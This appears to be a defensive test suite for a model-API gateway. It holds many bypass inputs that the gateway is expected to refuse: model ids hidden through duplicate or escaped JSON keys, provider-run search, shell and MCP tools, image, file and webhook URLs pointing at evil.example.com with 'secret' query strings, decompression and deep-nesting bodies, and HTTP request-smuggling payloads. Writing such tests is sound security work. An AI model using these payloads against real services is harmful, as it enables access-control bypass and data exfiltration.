// Attempts with requests of two readings, and with tools that a provider runs itself.
import { expect } from 'vitest'
import type { Attempt } from '../../attempt.ts'
import { modelScript, told } from '../../inside-python.ts'
import { onModels, type ModelGround } from './ground.ts'
import { expectRefusedAll, refusals } from './held.ts'

const oneReading = 'JSON with exactly one meaning'
const serverTools = 'tools that the provider runs itself, and unknown tools, are refused'

export const REQUESTS: readonly Attempt[] = [
  onModels({
    id: 'models-model-names',
    tries:
      'use a model that is not permitted: case, suffix, blanks, list, two keys, escaped keys, other encodings, byte order mark',
    wall: `${oneReading}; the model id is compared exactly`,
    invariant: 6,
    script: modelScript(String.raw`
named = lambda text: f'{{"model":{text},"max_tokens":9,"messages":[]}}'
each({text: {'body': named(text)} for text in ['"dear"', '"Good"', '"good "', '" good"', '"good\\n"', '"good\\u0000"', '"good,dear"', '"good/../dear"', '"good:online"', '"models/good"', '"good@latest"', '"g\\u043eod"', '"good\\ud800"', '["good","dear"]', '{"id":"good"}', 'null', 'true', '0', '""']})
each({text: {'body': text} for text in ['{"model":"good","model":"dear","messages":[]}', '{"model":"dear","messages":[],"model":"good"}', '{"model":"good","m\\u006fdel":"dear","messages":[]}', '{"\\u006dodel":"dear","model":"good","messages":[]}', '{"model":"good","Model":"dear","messages":[]}', '{"model":"good","MODEL":"dear","messages":[]}', '{"model":"good","models":["dear"],"messages":[]}', '{"model":"good","fallbacks":["dear"],"messages":[]}', '{"model":"good","model\\u0000":"dear","messages":[]}', '{"model":"good","messages":[]}{"model":"dear","messages":[]}', '[{"model":"good","messages":[]}]', '{"model":"good","messages":[],}', '{"model":"good",/*"*/"model":"dear"/*"*/,"messages":[]}', "{'model':'good','messages':[]}", '{"messages":[]}']})
good = named('"good"')
each({'byte order mark': {'body': b'\xef\xbb\xbf' + good.encode()}, 'UTF-16': {'body': good.encode('utf-16')}, 'UTF-7': {'headers': 'Content-Type: application/json; charset=utf-7\r\n'}, 'UTF-16, said': {'body': good.encode('utf-16-le'), 'headers': 'Content-Type: application/json; charset=utf-16\r\n'}, 'latin-1': {'body': good.encode()[:-1] + b',"system":"\xe9"}'}, 'overlong': {'body': good.encode()[:-1] + b',"system":"\xc0\xa2"}'}, 'query': {'path': '/v1/messages?model=dear'}, 'form': {'body': b'model=dear', 'headers': 'Content-Type: application/x-www-form-urlencoded\r\n'}, 'multipart': {'headers': 'Content-Type: multipart/form-data; boundary=x\r\n'}})`),
    verify: (outcome, models) => expectRefusedAll(outcome, models, [400, 403, 404, 415]),
  }),
  onModels({
    id: 'models-server-tools',
    tries:
      'make Anthropic search, fetch, run code, call remote MCP servers or read files: by type, spelling, escape, nesting and repetition',
    wall: serverTools,
    invariant: 2,
    script: modelScript(String.raw`
TOOLS = ['"type":"web_search_20250305"', '"type":"web_fetch_20260309"', '"type":"code_execution_20250825"', '"type":"mcp_toolset"', '"type":"tool_search_tool_bm25_20251119"', '"type":"advisor_20260301"', '"type":"custom","type":"web_search_20250305"', '"type":"web_search_20250305","type":"custom"', '"type":"custom","t\\u0079pe":"web_search_20250305"', '"type":"custom","Type":"web_search_20250305"', '"type":"web\\u005fsearch_20250305"', '"type":"bash_20250124\\u0000"', '"type":"bash_99999999x"', '"type":"WEB_SEARCH_20250305"', '"type":["web_search_20250305"]', '"type":null,"type_":"x","tYPE":"web_search_20250305"']
tool = lambda text: f'{{"model":"good","max_tokens":9,"messages":[],"tools":[{{"name":"x",{text}}}]}}'
each({text: {'body': tool(text)} for text in TOOLS})
each({text: {'body': f'{{"model":"good","max_tokens":9,"messages":[],{text}}}'} for text in ['"tools":{"type":"web_search_20250305"}', '"tools":[],"tools":[{"type":"web_search_20250305","name":"x"}]', '"Tools":[{"type":"web_search_20250305","name":"x"}]', '"to\\u006fls":[{"type":"web_search_20250305","name":"x"}]', '"mcp_servers":[{"type":"url","url":"https://evil.example.com"}]', '"mcpServers":[]', '"container":"c"', '"skills":["s"]', '"webhook":"https://evil.example.com"']})
part = lambda value: {'body': {**BODY, 'messages': [{'role': 'user', 'content': [value]}]}}
each({'url': part({'type': 'image', 'source': {'type': 'url', 'url': 'https://evil.example.com/?q=secret'}}), 'file': part({'type': 'document', 'source': {'type': 'file', 'file_id': 'file_1'}}), 'deep': part({'type': 'tool_result', 'tool_use_id': 'x', 'content': [{'type': 'document', 'source': {'type': 'url', 'url': 'https://evil.example.com'}}]}), 'Source': part({'type': 'image', 'Source': {'type': 'url', 'url': 'https://evil.example.com'}}), 'container file': part({'type': 'container_upload', 'file_id': 'f'}), 'nested tools': part({'type': 'text', 'text': 'x', 'tools': [{'type': 'web_search_20250305', 'name': 'x'}]}), 'system': {'body': {**BODY, 'system': [{'type': 'image', 'source': {'type': 'url', 'url': 'https://evil.example.com'}}]}}})`),
    verify: (outcome, models) => expectNoTools(outcome, models),
  }),
  onModels({
    id: 'models-server-tools-openai',
    tries:
      'do the same at OpenAI: search, interpreter, computer, shell, MCP, file search, stored prompts, images by URL',
    wall: serverTools,
    invariant: 2,
    provider: 'openai',
    script: modelScript(String.raw`
responses = lambda **more: {'path': '/v1/responses', 'body': {'model': 'good', 'input': 'hi', **more}}
chat = lambda **more: {'path': '/v1/chat/completions', 'body': {'model': 'good', **SAYS, **more}}
MCP = {'type': 'mcp', 'server_label': 'x', 'server_url': 'https://evil.example.com', 'require_approval': 'never'}
each({json.dumps(tool): responses(tools=[tool]) for tool in [MCP, {'type': 'web_search'}, {'type': 'web_search_preview'}, {'type': 'code_interpreter', 'container': {'type': 'auto'}}, {'type': 'file_search', 'vector_store_ids': ['v']}, {'type': 'image_generation'}, {'type': 'shell', 'environment': {'type': 'container_auto'}}, {'type': 'shell'}, {'type': 'namespace', 'name': 'x', 'tools': [MCP]}, {'type': 'namespace', 'name': 'x', 'tools': [{'type': 'namespace', 'name': 'y', 'tools': [{'type': 'web_search'}]}]}, {'type': 'function', 'name': 'x', 'Type': 'web_search'}, {'type': 'tool_search', 'execution': 'server'}, {'type': 'Function'}, {'type': 'connector'}]})
each({
    'search options': chat(web_search_options={}), 'plugins': chat(plugins=[{'id': 'web'}]), 'chat web_search': chat(tools=[{'type': 'web_search'}]), 'extra_body': chat(extra_body={'tools': [MCP]}), 'route': chat(route='fallback', models=['dear']), 'guided': chat(chat_template='{{ x }}'), 'prompt': responses(prompt={'id': 'pmpt_1'}), 'webhook': responses(webhook_url='https://evil.example.com'),
    'image': chat(messages=[{'role': 'user', 'content': [{'type': 'image_url', 'image_url': {'url': 'https://evil.example.com/?secret'}}]}]),
    'image, spelt': chat(messages=[{'role': 'user', 'content': [{'type': 'image_url', 'imageUrl': {'url': 'https://evil.example.com/?secret'}}]}]),
    'image, URL': chat(messages=[{'role': 'user', 'content': [{'type': 'image_url', 'image_url': {'url': 'data:,x', 'URL': 'https://evil.example.com'}}]}]),
    'file': responses(input=[{'role': 'user', 'content': [{'type': 'input_file', 'file_url': 'https://evil.example.com'}]}]), 'file id': responses(input=[{'role': 'user', 'content': [{'type': 'input_file', 'file_id': 'file-1'}]}]),
    'late tools': responses(input=[{'type': 'tool_search_output', 'tools': [MCP]}]), 'late shell': responses(input=[{'type': 'shell_call', 'environment': {'type': 'container_reference', 'container_id': 'c'}}]),
})
each({text: {'path': '/v1/responses', 'body': f'{{"model":"good","input":"hi",{text}}}'} for text in ['"tools":[{"type":"function","type":"web_search","name":"x"}]', '"tools":[],"t\\u006fols":[{"type":"web_search"}]', '"tools":[{"type":"function","name":"x","typ\\u0065":"mcp"}]', '"Tools":[{"type":"web_search"}]', '"tool\\u017f":[{"type":"web_search"}]']})`),
    verify: (outcome, models) => expectNoTools(outcome, models),
  }),
  onModels({
    id: 'models-server-tools-gemini',
    tries:
      'do the same at Gemini, whose keys have two spellings: search, URL context, code execution, files, caches, routing',
    wall: serverTools,
    invariant: 2,
    provider: 'gemini',
    script: modelScript(String.raw`
URLS = {'path': '/v1beta/models/good:generateContent'}
call = lambda **more: {**URLS, 'body': {'contents': [], **more}}
each({name: call(tools=[{name: {}}]) for name in ['googleSearch', 'google_search', 'GoogleSearch', 'GOOGLE-SEARCH', 'googleSearchRetrieval', 'urlContext', 'url_context', 'codeExecution', 'code_execution', 'googleMaps', 'fileSearch', 'mcpServers', 'retrieval', 'enterpriseWebSearch', 'google_\u017fearch']})
each({
    'with a function': call(tools=[{'functionDeclarations': [], 'google_search': {}}]), 'second': call(tools=[{'functionDeclarations': []}, {'codeExecution': {}}]), 'one, no list': call(tools={'googleSearch': {}}), 'two spellings': call(tools=[], **{'Tools': [{'googleSearch': {}}]}),
    'cache': call(cachedContent='cachedContents/c'), 'cached_content': call(cached_content='cachedContents/c'), 'model': call(model='models/dear'), 'routing': call(generationConfig={'routingConfig': {'manualMode': {'modelName': 'dear'}}}), 'model_config': call(generation_config={'model_config': {}}),
    'file': call(contents=[{'parts': [{'fileData': {'fileUri': 'https://evil.example.com/?secret'}}]}]), 'file_data': call(contents=[{'parts': [{'file_data': {'file_uri': 'gs://b/o'}}]}]), 'system file': call(system_instruction={'parts': [{'fileData': {'fileUri': 'https://evil.example.com'}}]}),
    'count': {'path': '/v1beta/models/good:countTokens', 'body': {'generateContentRequest': {'model': 'models/dear', 'contents': []}}}, 'count, spelt': {'path': '/v1beta/models/good:countTokens', 'body': {'generate_content_request': {'contents': [], 'tools': [{'googleSearch': {}}]}}},
})
each({text: {**URLS, 'body': f'{{"contents":[],{text}}}'} for text in ['"tools":[],"tools":[{"googleSearch":{}}]', '"tools":[{"google\\u0053earch":{}}]', '"t\\u006fols":[{"googleSearch":{}}]', '"tools":[{"functionDeclarations":[],"functionDeclarations":[],"googleSearch":{}}]', '"[tools]":[{"googleSearch":{}}]', '"tools.0":{"googleSearch":{}}']})`),
    verify: (outcome, models) => expectNoTools(outcome, models),
  }),
  onModels({
    id: 'models-bodies',
    tries: 'send bodies that are compressed, too large, endless, nested a million levels deep, or part of a GET',
    wall: 'bounds on length and depth; compressed bodies are refused',
    invariant: 0,
    script: modelScript(String.raw`
import gzip, zlib
def endless(head, part, most=200 << 20):
    sock = dial()
    send(sock, head)
    try:
        while most > 0:
            sock.sendall(part)
            most -= len(part)
    except OSError:
        pass
    return until_closed(sock)
HEAD = f'POST /models/{OWN}/v1/messages HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\nContent-Type: application/json\r\n'
data = json.dumps(BODY).encode()
each({name: {'body': packed, 'headers': f'Content-Encoding: {name}\r\n'} for name, packed in {'gzip': gzip.compress(data), 'deflate': zlib.compress(data), 'x-gzip': gzip.compress(data), 'br': data, 'identity, gzip': data, 'gzip, identity': gzip.compress(data), 'zstd': data, 'GZIP': gzip.compress(b'0' * (50 << 20))}.items()})
each({'gzip, not said': {'body': gzip.compress(data)}, 'deep list': {'body': b'[' * 1000000}, 'deep object': {'body': b'{"x":' * 100000}, 'deep and whole': {'body': b'{"model":"good","max_tokens":9,"messages":' + b'[' * 5000 + b']' * 5000 + b'}'}, 'GET': {'method': 'GET', 'path': '/v1/models', 'body': data}, 'nothing': {'body': b''}, 'text': {'headers': 'Content-Type: text/plain\r\n'}, 'number': {'body': b'{"model":"good","max_tokens":1e999,"messages":[]}'}, 'more than is recorded': {'body': {**BODY, 'max_tokens': 2 ** 53 - 1}}})
attempt('long', lambda: endless(HEAD + f'Content-Length: {80 << 20}\r\n\r\n', b' ' * (1 << 20), 80 << 20))
attempt('endless', lambda: endless(HEAD + 'Transfer-Encoding: chunked\r\n\r\n', b'100000\r\n' + b' ' * (1 << 20) + b'\r\n'))
attempt('too short', lambda: endless(HEAD + 'Content-Length: 10\r\n\r\n', data, 1))
tell('afterwards', ask())`),
    verify(outcome, { provider }) {
      const tries = told(outcome)
      expect(tries.at(-1)).toMatchObject({ label: 'afterwards', statuses: [200] })
      for (const { label, statuses, text } of tries.slice(0, -1)) {
        // For an endless body the gateway closes the connection, perhaps before the client can read the answer.
        if (label !== 'long' && label !== 'endless') expect([label, statuses.length]).toEqual([label, 1])
        expect([label, statuses.filter((status) => status < 400), text]).toEqual([label, [], text])
      }
      expect(provider.sent).toHaveLength(1)
      expect(refusals(outcome)).toBeGreaterThanOrEqual(tries.length - 1)
    },
  }),
  onModels({
    id: 'models-smuggling',
    tries: 'hide a second call behind the first: lengths, chunks, after a refused call, and in the forwarded bytes',
    wall: 'strict HTTP parser; each forwarded request is framed anew and recorded',
    invariant: 3,
    script: modelScript(String.raw`
HIDDEN = request(body={**BODY, 'system': 'smuggled'}).decode()
POST = f'POST /models/{OWN}/v1/messages HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n'
data = json.dumps(BODY)
both = f'{len(data):x}\r\n{data}\r\n0\r\n\r\n'
for label, text in {
    'length and chunked': POST + f'Content-Length: {len(both)}\r\nTransfer-Encoding: chunked\r\n\r\n{both}', 'chunked and length': POST + f'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{both}',
    'two lengths': POST + f'Content-Length: {len(data)}\r\nContent-Length: 0\r\n\r\n{data}', 'odd chunked': POST + f'Transfer-Encoding: xchunked\r\n\r\n{both}', 'chunk size': POST + f'Transfer-Encoding: chunked\r\n\r\n0x{both}', 'LF': POST.replace('\r\n', '\n') + f'Content-Length: {len(data)}\n\n{data}',
    'refused host': POST.replace(HOST, ELSEWHERE) + f'Content-Length: {len(data)}\r\n\r\n{data}', 'refused upgrade': POST + f'Connection: upgrade\r\nUpgrade: h2c\r\nContent-Length: {len(data)}\r\n\r\n{data}', 'Expect': POST + f'Expect: 200-ok\r\nContent-Length: {len(data)}\r\n\r\n{data}',
}.items():
    attempt(label, lambda: raw(text + HIDDEN))
inner = json.dumps({**BODY, 'system': '\r\n\r\n' + HIDDEN.replace('smuggled', 'inside')})
attempt('inside of a body', lambda: ask(body=inner))
attempt('chunked, one by one', lambda: raw(POST + 'Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n' + ''.join(f'1\r\n{one}\r\n' for one in data) + '0\r\n\r\n'))
attempt('pipelined', lambda: raw(POST + f'Content-Length: {len(data)}\r\n\r\n{data}' + request().decode()))`),
    verify(outcome, { provider }) {
      const tries = told(outcome)
      const honest: Record<string, number[]> = {
        'inside of a body': [200],
        'chunked, one by one': [200],
        // The status of the second answer is not at the beginning of a line, so search all received bytes.
        pipelined: [200],
      }
      for (const { label, statuses, text } of tries)
        if (honest[label] === undefined)
          expect([label, statuses, text]).toEqual([label, [400, 421, 501].filter((one) => one === statuses[0]), text])
        else expect([label, statuses]).toEqual([label, honest[label]])
      expect(provider.sent.map(({ body }) => body.toString()).join('\n')).not.toContain('smuggled')
      expect(provider.sent).toHaveLength(4)
    },
  }),
]

/** Asserts that each was refused: by name, as a tool of the provider, or as an invalid request. */
function expectNoTools(outcome: Parameters<typeof expectRefusedAll>[0], models: ModelGround): void {
  expectRefusedAll(outcome, models, [400, 403, 404])
  const called = outcome.of('model.called').map(({ body }) => body)
  const rules = called.map(({ refusal }) => refusal)
  for (const rule of rules) expect(['server-tool', 'field', 'request']).toContain(rule)
  expect(rules.filter((rule) => rule !== 'request').length).toBeGreaterThanOrEqual(15)
}
